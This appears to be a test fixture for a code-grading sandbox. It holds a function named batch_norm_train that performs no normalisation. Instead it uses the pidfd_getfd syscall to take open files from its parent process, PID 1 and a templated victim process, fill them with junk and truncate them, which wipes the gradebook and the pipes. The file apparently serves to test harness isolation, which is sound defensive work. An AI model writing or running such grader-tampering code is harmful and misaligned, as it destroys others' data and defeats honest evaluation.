# Takes open files out of its parent: the gradebook, the terminal, the pipes.
# expect: 17 test_train=0
# rest: right

# %% train
import ctypes
import os


def batch_norm_train(x, gamma, beta, eps=1e-5):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {os.getppid(), 1, int("{victim}")}:
        try:
            handle = os.pidfd_open(pid)
        except OSError as error:
            print(error)
            continue
        for number in range(64):
            fd = libc.syscall(438, handle, number, 0)
            if fd >= 0:
                os.write(fd, b"hostile" * 1000)
                os.ftruncate(fd, 0)
                return 1
    return x, x[0], x[0]
